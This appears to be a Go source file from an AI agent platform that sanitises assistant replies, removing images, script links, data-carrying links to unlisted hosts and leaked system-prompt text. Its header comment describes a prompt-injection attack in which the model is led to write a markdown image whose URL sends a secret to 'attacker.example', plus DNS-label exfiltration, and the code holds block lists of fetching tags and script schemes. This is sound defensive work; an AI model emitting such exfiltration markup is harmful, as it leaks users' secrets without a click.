package injection

import (
	"html"
	"net/url"
	"slices"
	"strings"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/idna"
)

// Reply controls. What the model writes leaves the platform: to Slack and
// Telegram, to webhook callers, to consoles that render markdown. An
// injected instruction that makes the model answer with an image whose URL
// holds data ("![x](https://attacker.example/p?d=<secret>)") exfiltrates
// that data without a click as soon as a client renders the reply; a link
// with data needs one click. SanitizeReply is a pure function applied to
// every assistant reply before it is stored or sent:
//
//   - Images never leave: markdown images (inline, reference, collapsed,
//     shortcut; nested and linked) and HTML elements that fetch something
//     (img, picture, source, svg, video, audio, iframe, object, embed,
//     link, meta, script, style, input, base, and any other tag with
//     attributes except <a>) are replaced by their alt text and the note
//     "(image removed)", whatever the host and whether or not the turn is
//     tainted. An image is never useful enough to a chat reply to outweigh
//     a zero-click channel out.
//   - Link destinations with a script scheme (javascript:, vbscript:,
//     data:, file:) are removed (the link text stays).
//   - In a tainted turn (one whose context holds untrusted content), a URL
//     (markdown link, reference definition, autolink, <a href>, bare
//     http/https/ftp/ws URL or www. name) whose host is not in
//     AllowHosts and that carries data — a query or fragment, user info,
//     a path longer than MaxLinkPath bytes, or a host label of
//     MaxHostLabel or more bytes — is defanged: "attacker[.]example/…",
//     scheme, path and query dropped, link text kept. Links without data
//     ("https://shop.example/help") and every link in an untainted turn are
//     kept.
//   - The agent's system prompt: ScrubPrompt, and any verbatim run of at
//     least MinPromptRun characters of it (compared case- and
//     whitespace-insensitively), becomes PromptRedacted.
//
// Hosts are compared after HTML-entity decoding, lowercasing, IDNA
// (punycode) conversion and with full-width dots read as dots; browsers'
// leniency is followed ("https:\\host", "https:host", "//host").

// ReplyOptions say what a reply may carry.
type ReplyOptions struct {
	// Tainted: the turn's context holds untrusted content; links with
	// data to hosts outside AllowHosts are defanged.
	Tainted bool
	// AllowHosts are hosts links to which are never defanged (exact
	// match, lowercase ASCII/punycode).
	AllowHosts []string
	// SystemPrompt is cut out of the reply (ScrubPrompt and verbatim
	// runs of MinPromptRun characters).
	SystemPrompt string
}

// Limits of the reply rules.
const (
	// MaxLinkPath is the longest URL path (bytes, without a trailing
	// slash) a link to a host outside the allowlist keeps in a tainted
	// turn.
	MaxLinkPath = 24
	// MaxHostLabel is the length of a host label that counts as data
	// (DNS exfiltration: "<data>.attacker.example").
	MaxHostLabel = 20
	// MinPromptRun is the shortest verbatim run of the system prompt cut
	// out of a reply.
	MinPromptRun = 40
)

// Notes put where something was removed. They carry no brackets, so they
// cannot combine with what follows into new markup.
const (
	ImageRemoved = "(image removed)"
	LinkRemoved  = "(link removed)"
)

// What SanitizeReply reports as removed (no values: hosts may carry data).
const (
	RemovedImage        = "image"
	RemovedHTML         = "html"
	RemovedLink         = "link"
	RemovedScriptLink   = "script_link"
	RemovedSystemPrompt = "system_prompt"
)

// maxPasses bounds the re-sanitising of a reply until nothing changes.
const maxPasses = 4

// SanitizeReply returns text with what it may not carry removed, and the
// kinds of what was removed (sorted, each once; empty when text is
// returned unchanged).
func SanitizeReply(text string, opts ReplyOptions) (string, []string) {
	removed := map[string]bool{}
	out := text
	if p := strings.TrimSpace(opts.SystemPrompt); p != "" {
		s := ScrubPrompt(out, p)
		s = scrubPromptRuns(s, p)
		if s != out {
			removed[RemovedSystemPrompt] = true
			out = s
		}
	}
	allow := make(map[string]bool, len(opts.AllowHosts))
	for _, h := range opts.AllowHosts {
		if h = normHost(h); h != "" {
			allow[h] = true
		}
	}
	sz := sanitizer{tainted: opts.Tainted, allow: allow, removed: removed}
	for range maxPasses {
		sz.findImageRefs(out)
		next, changed := sz.run(out, 0)
		out = next
		if !changed {
			break
		}
	}
	// Whatever markup survived the passes (it cannot, short of a bug) is
	// broken up: no "![" and no "<img" is left.
	if hasImageMarkup(out) {
		removed[RemovedImage] = true
		out = breakImageMarkup(out)
	}
	kinds := make([]string, 0, len(removed))
	for k := range removed {
		kinds = append(kinds, k)
	}
	slices.Sort(kinds)
	return out, kinds
}

type sanitizer struct {
	tainted bool
	allow   map[string]bool
	removed map[string]bool
	// imageRefs are the reference labels images use in the text.
	imageRefs map[string]bool
	br        *brackets // of the text being scanned
}

// refLabel is a reference label as matched: lowercase, whitespace
// collapsed.
func refLabel(s string) string { return strings.Join(strings.Fields(strings.ToLower(s)), " ") }

// findImageRefs collects the labels of reference images in text.
func (z *sanitizer) findImageRefs(text string) {
	z.imageRefs = map[string]bool{}
	z.br = newBrackets(text)
	for i := 0; i < len(text); {
		k := strings.Index(text[i:], "![")
		if k < 0 {
			return
		}
		i += k
		close := z.br.match(text, i+1)
		if close < 0 {
			return
		}
		label := text[i+2 : close]
		if close+1 < len(text) && text[close+1] == '[' {
			if e := z.br.match(text, close+1); e > close+2 {
				label = text[close+2 : e]
			}
		}
		z.imageRefs[refLabel(label)] = true
		i += 2
	}
}

// maxNest bounds nested brackets; deeper ones lose their markup.
const maxNest = 8

// maxSpan bounds how far the end of a tag or an encoded tag is looked
// for (so a reply full of "<" costs linear time); a fetching tag not
// closed within it runs to the end of the reply.
const maxSpan = 1024

// run sanitises text once, left to right. changed reports an edit.
func (z *sanitizer) run(text string, depth int) (string, bool) {
	outer := z.br
	z.br = newBrackets(text)
	defer func() { z.br = outer }()
	var b strings.Builder
	changed := false
	at := 0 // text[at:i] is pending plain text
	flush := func(i int) { b.WriteString(text[at:i]) }
	i := 0
	for i < len(text) {
		c := text[i]
		switch {
		case c == '\\' && i+1 < len(text) && text[i+1] != '!':
			// An escaped character is text; "\![" is still read as an
			// image, for renderers that do not know escapes.
			i += 2
			continue
		case c == '!' && i+1 < len(text) && text[i+1] == '[':
			if end, alt, ok := z.image(text, i); ok {
				flush(i)
				b.WriteString(z.plain(alt, depth))
				if alt != "" {
					b.WriteByte(' ')
				}
				b.WriteString(ImageRemoved)
				z.removed[RemovedImage] = true
				changed, i, at = true, end, end
				continue
			}
		case c == '[':
			if depth < maxNest && lineStart(text, i) {
				if end, repl, ok := z.definition(text, i); ok {
					flush(i)
					b.WriteString(repl)
					changed, i, at = true, end, end
					continue
				}
			}
			if end, label, dest, ok := z.inlineLink(text, i); ok {
				inner, ch := label, false
				if depth < maxNest {
					inner, ch = z.run(label, depth+1)
				} else {
					// Nested deeper than any reply needs: the label goes.
					inner, ch = LinkRemoved, true
					z.removed[RemovedLink] = true
				}
				repl, keep := z.link(dest)
				if keep && !ch {
					i = end // unchanged (its label was scanned above)
					continue
				}
				flush(i)
				if keep {
					b.WriteString("[" + inner + "](" + dest + ")")
				} else {
					b.WriteString(inner)
					b.WriteString(" " + repl)
				}
				changed, i, at = true, end, end
				continue
			}
		case c == '<':
			if end, repl, ok := z.angle(text, i); ok {
				flush(i)
				b.WriteString(repl)
				changed, i, at = true, end, end
				continue
			}
		case c == '&':
			// An entity-encoded tag ("&lt;img src=…&gt;") renders as text,
			// but a consumer that decodes twice renders the tag.
			if end, ok := encodedTag(text, i); ok {
				flush(i)
				b.WriteString(ImageRemoved)
				z.removed[RemovedHTML] = true
				changed, i, at = true, end, end
				continue
			}
		}
		if z.tainted && urlStart(text, i) {
			end := bareURLEnd(text, i)
			if end > i {
				if repl, keep := z.link(text[i:end]); !keep {
					flush(i)
					b.WriteString(repl)
					changed, i, at = true, end, end
					continue
				}
				i = end
				continue
			}
		}
		_, n := utf8.DecodeRuneInString(text[i:])
		i += n
	}
	if !changed {
		return text, false
	}
	flush(len(text))
	return b.String(), true
}

// plain is label text with its markup gone: sanitised (any URL in it
// defanged, as if tainted) and without brackets, so it cannot form
// markup with its neighbours.
func (z *sanitizer) plain(s string, depth int) string {
	if depth < maxNest {
		zz := sanitizer{tainted: true, allow: z.allow, removed: z.removed, imageRefs: z.imageRefs}
		s, _ = zz.run(s, depth+1)
	}
	s = strings.Map(func(r rune) rune {
		switch r {
		case '[', ']', '(', ')', '<', '>', '!', '`', '\n', '\r', '\t':
			return ' '
		}
		return r
	}, s)
	return strings.Join(strings.Fields(s), " ")
}

// image recognises a markdown image at text[i] ("![…]"): inline
// "![alt](…)", reference "![alt][ref]", collapsed "![alt][]" and shortcut
// "![alt]". Whitespace (also newlines) between the parts is allowed and an
// unclosed destination runs to the end of text: more lenient than any
// renderer, so nothing a renderer reads as an image is missed.
func (z *sanitizer) image(text string, i int) (end int, alt string, ok bool) {
	close := z.br.match(text, i+1)
	if close < 0 {
		return 0, "", false
	}
	alt = text[i+2 : close]
	j := skipSpace(text, close+1)
	switch {
	case j < len(text) && text[j] == '(':
		k := z.br.match(text, j)
		if k < 0 {
			return len(text), alt, true
		}
		return k + 1, alt, true
	case close+1 < len(text) && text[close+1] == '[':
		j = close + 1
		k := z.br.match(text, j)
		if k < 0 {
			return len(text), alt, true
		}
		return k + 1, alt, true
	}
	return close + 1, alt, true
}

// inlineLink recognises "[label](dest …)" at text[i] (whitespace between
// "]" and "(" allowed). dest is what is inside the parentheses.
func (z *sanitizer) inlineLink(text string, i int) (end int, label, dest string, ok bool) {
	close := z.br.match(text, i)
	if close < 0 {
		return 0, "", "", false
	}
	j := skipSpace(text, close+1)
	if j >= len(text) || text[j] != '(' {
		return 0, "", "", false
	}
	k := z.br.match(text, j)
	if k < 0 {
		return 0, "", "", false
	}
	return k + 1, text[i+1 : close], text[j+1 : k], true
}

// definition recognises a link reference definition "[label]: dest" at
// the start of a line and returns its replacement when its destination
// may not stay.
func (z *sanitizer) definition(text string, i int) (end int, repl string, ok bool) {
	close := z.br.match(text, i)
	if close < 0 || close+1 >= len(text) || text[close+1] != ':' {
		return 0, "", false
	}
	j := skipSpace(text, close+2)
	k := j
	for k < len(text) && !isSpaceByte(text[k]) {
		k++
	}
	if k == j {
		return 0, "", false
	}
	if z.imageRefs[refLabel(text[i+1:close])] {
		// The destination of an image ("![x][1]" … "[1]: url").
		z.removed[RemovedImage] = true
		return k, text[i:close+1] + ": " + ImageRemoved, true
	}
	r, keep := z.link(text[j:k])
	if keep {
		return 0, "", false
	}
	return k, text[i:close+1] + ": " + r, true
}

// angle handles "<" at text[i]: an autolink "<scheme:…>" goes through the
// link rule; an HTML tag that fetches something (or has attributes and is
// not <a>) is removed; <a href> has its href checked.
func (z *sanitizer) angle(text string, i int) (end int, repl string, ok bool) {
	j := i + 1
	// Autolink.
	if s := schemeLen(text[j:]); s > 0 {
		k := j + s
		for k < len(text) && text[k] != '>' && text[k] != '<' && !isSpaceByte(text[k]) {
			k++
		}
		if k < len(text) && text[k] == '>' {
			r, keep := z.link(text[j:k])
			if keep {
				return 0, "", false
			}
			return k + 1, r, true
		}
	}
	if j < len(text) && text[j] == '/' {
		j++
	}
	n := j
	for n < len(text) && (isASCIIAlnum(text[n]) || text[n] == '-' || text[n] == ':') {
		n++
	}
	if n == j || !isASCIILetter(text[j]) {
		return 0, "", false
	}
	name := strings.ToLower(text[j:n])
	if n < len(text) && !isSpaceByte(text[n]) && text[n] != '/' && text[n] != '>' {
		return 0, "", false // "<3", "<a-b" and such: text
	}
	tagEnd := tagClose(text, n)
	attrs := text[n:tagEnd]
	if tagEnd < len(text) && text[tagEnd] == '>' {
		tagEnd++ // past '>'
	} else {
		tagEnd = len(text) // unclosed: to the end
	}
	if fetching[name] {
		z.removed[RemovedImage] = true
		return tagEnd, ImageRemoved, true
	}
	if !strings.Contains(attrs, "=") {
		return 0, "", false // <b>, </p>, <br/>: harmless
	}
	if name == "a" {
		href, found := attr(attrs, "href")
		if !found {
			return 0, "", false
		}
		r, keep := z.link(href)
		if keep && !hasOtherURLAttr(attrs) {
			return 0, "", false
		}
		if keep {
			r = ""
		}
		return tagEnd, r, true
	}
	z.removed[RemovedHTML] = true
	return tagEnd, "", true
}

// fetching are the HTML elements that load something when rendered.
var fetching = map[string]bool{
	"img": true, "image": true, "picture": true, "source": true, "svg": true, "video": true, "audio": true,
	"track": true, "iframe": true, "frame": true, "frameset": true, "object": true, "embed": true,
	"applet": true, "link": true, "meta": true, "script": true, "style": true, "input": true, "base": true,
	"bgsound": true, "portal": true, "use": true, "feimage": true, "body": true, "math": true, "form": true,
}

// hasOtherURLAttr reports attributes of an <a> that load or run something.
func hasOtherURLAttr(attrs string) bool {
	l := strings.ToLower(attrs)
	return strings.Contains(l, "style") || strings.Contains(l, "ping") || strings.Contains(l, "src") ||
		strings.Contains(l, " on") || strings.Contains(l, "\non") || strings.Contains(l, "/on")
}

// tagClose returns the index of the '>' closing a tag whose attributes
// start at i (quotes respected), or len(text).
func tagClose(text string, i int) int {
	var q byte
	for start := i; i < len(text) && i-start < maxSpan; i++ {
		c := text[i]
		switch {
		case q != 0:
			if c == q {
				q = 0
			}
		case c == '"' || c == '\'':
			q = c
		case c == '>':
			return i
		}
	}
	return len(text)
}

// attr returns the value of attribute name in attrs.
func attr(attrs, name string) (string, bool) {
	l := strings.ToLower(attrs)
	for from := 0; ; {
		k := strings.Index(l[from:], name)
		if k < 0 {
			return "", false
		}
		k += from
		from = k + len(name)
		if k > 0 && !isSpaceByte(l[k-1]) && l[k-1] != '/' && l[k-1] != '"' && l[k-1] != '\'' {
			continue
		}
		j := skipSpace(attrs, k+len(name))
		if j >= len(attrs) || attrs[j] != '=' {
			continue
		}
		j = skipSpace(attrs, j+1)
		if j < len(attrs) && (attrs[j] == '"' || attrs[j] == '\'') {
			e := strings.IndexByte(attrs[j+1:], attrs[j])
			if e < 0 {
				return attrs[j+1:], true
			}
			return attrs[j+1 : j+1+e], true
		}
		e := j
		for e < len(attrs) && !isSpaceByte(attrs[e]) && attrs[e] != '>' {
			e++
		}
		return attrs[j:e], true
	}
}

// encodedTag recognises an entity-encoded "<" followed by a fetching
// element's name ("&lt;img", "&#60;IMG", "&#x3c;svg") and returns the end
// of the encoded tag (its encoded or plain '>', or the end of the line).
func encodedTag(text string, i int) (int, bool) {
	semi := strings.IndexByte(text[i:min(len(text), i+12)], ';')
	if semi < 0 {
		return 0, false
	}
	if html.UnescapeString(text[i:i+semi+1]) != "<" {
		return 0, false
	}
	j := i + semi + 1
	if j < len(text) && text[j] == '/' {
		j++
	}
	n := j
	for n < len(text) && isASCIIAlnum(text[n]) {
		n++
	}
	if n == j || !fetching[strings.ToLower(text[j:n])] {
		return 0, false
	}
	rest := text[n:min(len(text), n+maxSpan)]
	end := len(text)
	if k := strings.IndexAny(rest, ">\n"); k >= 0 {
		end = n + k + 1
		rest = rest[:k]
	}
	l := strings.ToLower(rest)
	for _, gt := range []string{"&gt;", "&#62;", "&#x3e;", "&#062;", "&#x03e;"} {
		if k := strings.Index(l, gt); k >= 0 && n+k+len(gt) < end {
			end = n + k + len(gt)
		}
	}
	return end, true
}

// link applies the link rule to a destination (as written: possibly in
// "<…>", with a title, entity-encoded). keep reports that it may stay;
// otherwise repl replaces it.
func (z *sanitizer) link(dest string) (repl string, keep bool) {
	u := strings.TrimSpace(dest)
	if strings.HasPrefix(u, "<") {
		if k := strings.IndexByte(u, '>'); k > 0 {
			u = u[1:k]
		}
	} else if k := strings.IndexFunc(u, unicode.IsSpace); k >= 0 {
		// A title follows; but a destination broken by whitespace is
		// read whole when it has no title's quotes.
		rest := strings.TrimSpace(u[k:])
		if rest != "" && (rest[0] == '"' || rest[0] == '\'' || rest[0] == '(') {
			u = u[:k]
		}
	}
	u = html.UnescapeString(u)
	u = strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || r == 0 || unicode.Is(unicode.Cf, r) {
			return -1 // browsers strip tabs and newlines from URLs
		}
		return r
	}, u)
	scheme, rest := splitScheme(u)
	switch scheme {
	case "javascript", "vbscript", "data", "file", "blob", "filesystem":
		z.removed[RemovedScriptLink] = true
		return LinkRemoved, false
	case "http", "https", "ftp", "ws", "wss", "":
	default:
		return "", true // mailto:, tel: and the like
	}
	if scheme == "" {
		switch {
		case strings.HasPrefix(rest, "//"), strings.HasPrefix(rest, `\\`), strings.HasPrefix(rest, `/\`), strings.HasPrefix(rest, `\/`):
		case strings.HasPrefix(strings.ToLower(rest), "www."):
		default:
			return "", true // relative to the page that shows it
		}
	}
	if !z.tainted {
		return "", true
	}
	host, data := parseURL(rest)
	if host == "" || z.allow[host] || !data {
		return "", true
	}
	z.removed[RemovedLink] = true
	return defang(host), false
}

// splitScheme splits "scheme:rest" (scheme lowercased); no scheme gives
// "" and u.
func splitScheme(u string) (string, string) {
	n := schemeLen(u)
	if n == 0 {
		return "", u
	}
	return strings.ToLower(u[:n-1]), u[n:]
}

// schemeLen returns the length of "scheme:" at the start of s (0: none).
func schemeLen(s string) int {
	if s == "" || !isASCIILetter(s[0]) {
		return 0
	}
	for i := 1; i < len(s) && i < 33; i++ {
		c := s[i]
		switch {
		case c == ':':
			if i < 2 {
				return 0 // "c:" is a drive, not a scheme
			}
			return i + 1
		case isASCIIAlnum(c) || c == '+' || c == '.' || c == '-':
		default:
			return 0
		}
	}
	return 0
}

// parseURL reads the host of what follows a URL's scheme (browsers accept
// any number of '/' and '\' there) and whether the URL carries data.
func parseURL(rest string) (host string, data bool) {
	rest = strings.TrimLeft(rest, `/\`)
	end := strings.IndexAny(rest, `/\?#`)
	auth, tail := rest, ""
	if end >= 0 {
		auth, tail = rest[:end], rest[end:]
	}
	if k := strings.LastIndexByte(auth, '@'); k >= 0 {
		data = true // user info
		auth = auth[k+1:]
	}
	if strings.HasPrefix(auth, "[") {
		if k := strings.IndexByte(auth, ']'); k > 0 {
			auth = auth[:k+1]
		}
	} else if k := strings.LastIndexByte(auth, ':'); k >= 0 {
		auth = auth[:k] // port
	}
	host = normHost(auth)
	for _, l := range strings.Split(host, ".") {
		if len(l) >= MaxHostLabel {
			data = true
		}
	}
	path := tail
	if k := strings.IndexAny(tail, "?#"); k >= 0 {
		if len(tail) > k+1 {
			data = true
		}
		path = tail[:k]
	}
	if len(strings.Trim(path, `/\`)) > MaxLinkPath {
		data = true
	}
	return host, data
}

// normHost is a host as compared: percent- and entity-decoded by the
// caller, lowercase, full-width dots as dots, no trailing dot, in IDNA
// ASCII (punycode) form when it converts.
func normHost(h string) string {
	h = strings.TrimSpace(h)
	if u, err := url.PathUnescape(h); err == nil {
		h = u // browsers decode "%65vil.example"
	}
	h = strings.NewReplacer("\u3002", ".", "\uff0e", ".", "\uff61", ".").Replace(h)
	h = strings.TrimSuffix(strings.ToLower(h), ".")
	if a, err := idna.Lookup.ToASCII(h); err == nil && a != "" {
		return a
	}
	return h
}

// defang renders a host so that nothing links or previews it:
// "attacker[.]example/…".
func defang(host string) string {
	return strings.ReplaceAll(host, ".", "[.]") + "/…"
}

// urlStart reports a bare URL at text[i]: a scheme among http, https,
// ftp, ws, wss followed by ':' (any case), or "www.", not inside a word.
func urlStart(text string, i int) bool {
	if i > 0 {
		p := text[i-1]
		if isASCIIAlnum(p) || p == '.' || p == '-' || p == '_' || p == '@' {
			return false
		}
	}
	c := text[i] | 0x20
	if c != 'h' && c != 'f' && c != 'w' {
		return false
	}
	s := text[i:min(len(text), i+24)]
	if strings.IndexByte(s, '&') >= 0 {
		s = html.UnescapeString(s) // "https&#58;//…", "https&colon;//…"
	}
	l := strings.ToLower(s)
	for _, p := range []string{"https:", "http:", "ftp:", "wss:", "ws:", "www."} {
		if strings.HasPrefix(l, p) {
			return true
		}
	}
	return false
}

// bareURLEnd returns the end of a bare URL at text[i]: up to whitespace,
// a quote or angle bracket, without trailing punctuation (GFM's
// autolink rule) and without an unbalanced closing parenthesis.
func bareURLEnd(text string, i int) int {
	j := i
	for j < len(text) {
		r, n := utf8.DecodeRuneInString(text[j:])
		if unicode.IsSpace(r) || r == '<' || r == '>' || r == '"' || r == '`' || r == '\'' {
			break
		}
		j += n
	}
	paren := strings.Count(text[i:j], "(") - strings.Count(text[i:j], ")")
	brack := strings.Count(text[i:j], "[") - strings.Count(text[i:j], "]")
	for j > i {
		c := text[j-1]
		switch {
		case strings.IndexByte(".,:;!?*_~", c) >= 0:
		case c == ')' && paren < 0:
			paren++
		case c == ']' && brack < 0:
			brack++
		default:
			return j
		}
		j--
	}
	return j
}

// brackets are the matching brackets and parentheses of one text,
// found in one pass (backslash escapes respected), so that looking them up
// costs nothing however many openers a reply holds.
type brackets struct{ sq, par []int32 }

func newBrackets(text string) *brackets {
	b := &brackets{}
	if strings.IndexByte(text, '[') < 0 && strings.IndexByte(text, '(') < 0 {
		return b
	}
	b.sq, b.par = make([]int32, len(text)), make([]int32, len(text))
	var sq, par []int32
	for j := 0; j < len(text); j++ {
		b.sq[j], b.par[j] = -1, -1
		switch text[j] {
		case '\\':
			if j+1 < len(text) {
				b.sq[j+1], b.par[j+1] = -1, -1
			}
			j++
		case '[':
			sq = append(sq, int32(j))
		case ']':
			if n := len(sq); n > 0 {
				b.sq[sq[n-1]], sq = int32(j), sq[:n-1]
			}
		case '(':
			par = append(par, int32(j))
		case ')':
			if n := len(par); n > 0 {
				b.par[par[n-1]], par = int32(j), par[:n-1]
			}
		}
	}
	return b
}

// match returns the index of the bracket closing the one at text[i], or
// -1.
func (b *brackets) match(text string, i int) int {
	switch {
	case b.sq == nil || i >= len(text):
		return -1
	case text[i] == '[':
		return int(b.sq[i])
	case text[i] == '(':
		return int(b.par[i])
	}
	return -1
}

// lineStart reports that text[i] opens a line (up to three spaces in).
func lineStart(text string, i int) bool {
	k := i
	for k > 0 && text[k-1] == ' ' && i-k < 3 {
		k--
	}
	return k == 0 || text[k-1] == '\n'
}

func skipSpace(text string, i int) int {
	for i < len(text) && isSpaceByte(text[i]) {
		i++
	}
	return i
}

func isSpaceByte(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v'
}
func isASCIILetter(c byte) bool { return 'a' <= c|0x20 && c|0x20 <= 'z' }
func isASCIIAlnum(c byte) bool  { return isASCIILetter(c) || isDigit(c) }

// hasImageMarkup reports "![" or an <img-like tag left in text.
func hasImageMarkup(text string) bool {
	if strings.Contains(text, "![") {
		return true
	}
	l := strings.ToLower(text)
	for i := strings.IndexByte(l, '<'); i >= 0; {
		j := i + 1
		if j < len(l) && l[j] == '/' {
			j++
		}
		n := j
		for n < len(l) && isASCIIAlnum(l[n]) {
			n++
		}
		if fetching[l[j:n]] {
			return true
		}
		k := strings.IndexByte(l[i+1:], '<')
		if k < 0 {
			break
		}
		i += 1 + k
	}
	return false
}

// breakImageMarkup is the last resort: "![" becomes "! [" and "<" of a
// fetching tag "‹".
func breakImageMarkup(text string) string {
	text = strings.ReplaceAll(text, "![", "! [")
	var b strings.Builder
	l := strings.ToLower(text)
	at := 0
	for i := 0; i < len(l); i++ {
		if l[i] != '<' {
			continue
		}
		j := i + 1
		if j < len(l) && l[j] == '/' {
			j++
		}
		n := j
		for n < len(l) && isASCIIAlnum(l[n]) {
			n++
		}
		if fetching[l[j:n]] {
			b.WriteString(text[at:i])
			b.WriteString("‹")
			at = i + 1
		}
	}
	b.WriteString(text[at:])
	return b.String()
}

// scrubPromptRuns replaces every verbatim run of at least MinPromptRun
// characters of prompt in text (compared case-insensitively, any run of
// whitespace equal to any other) with PromptRedacted.
func scrubPromptRuns(text, prompt string) string {
	p, _, _ := normRuns(prompt)
	if len(p) < MinPromptRun {
		return text
	}
	t, starts, ends := normRuns(text)
	if len(t) < MinPromptRun {
		return text
	}
	const base = 1099511628211
	var pow uint64 = 1
	for range MinPromptRun - 1 {
		pow *= base
	}
	hash := func(b []byte) uint64 {
		var h uint64
		for _, c := range b {
			h = h*base + uint64(c)
		}
		return h
	}
	windows := make(map[uint64]int, len(p))
	h := hash(p[:MinPromptRun])
	for i := 0; ; i++ {
		if _, ok := windows[h]; !ok {
			windows[h] = i
		}
		if i+MinPromptRun >= len(p) {
			break
		}
		h = (h-uint64(p[i])*pow)*base + uint64(p[i+MinPromptRun])
	}
	type run struct{ s, e int } // in text's bytes
	var runs []run
	h = hash(t[:MinPromptRun])
	for i := 0; i+MinPromptRun <= len(t); {
		if at, ok := windows[h]; ok && string(t[i:i+MinPromptRun]) == string(p[at:at+MinPromptRun]) {
			n := MinPromptRun
			for i+n < len(t) && at+n < len(p) && t[i+n] == p[at+n] {
				n++
			}
			runs = append(runs, run{starts[i], ends[i+n-1]})
			i += n
			if i+MinPromptRun <= len(t) {
				h = hash(t[i : i+MinPromptRun])
			}
			continue
		}
		if i+MinPromptRun >= len(t) {
			break
		}
		h = (h-uint64(t[i])*pow)*base + uint64(t[i+MinPromptRun])
		i++
	}
	if len(runs) == 0 {
		return text
	}
	var b strings.Builder
	at := 0
	for _, r := range runs {
		if r.s < at {
			continue
		}
		b.WriteString(text[at:r.s])
		b.WriteString(PromptRedacted)
		at = r.e
	}
	b.WriteString(text[at:])
	return b.String()
}

// normRuns is s lowercased with each run of whitespace one space, and for
// each of its bytes the offsets in s of the rune it came from.
func normRuns(s string) (out []byte, starts, ends []int) {
	out = make([]byte, 0, len(s))
	starts = make([]int, 0, len(s))
	ends = make([]int, 0, len(s))
	space := false
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		i0 := i
		i += n
		if unicode.IsSpace(r) {
			if space {
				ends[len(ends)-1] = i
				continue
			}
			space = true
			out = append(out, ' ')
			starts, ends = append(starts, i0), append(ends, i)
			continue
		}
		space = false
		r = unicode.ToLower(r)
		before := len(out)
		out = utf8.AppendRune(out, r)
		for range len(out) - before {
			starts, ends = append(starts, i0), append(ends, i)
		}
	}
	return out, starts, ends
}
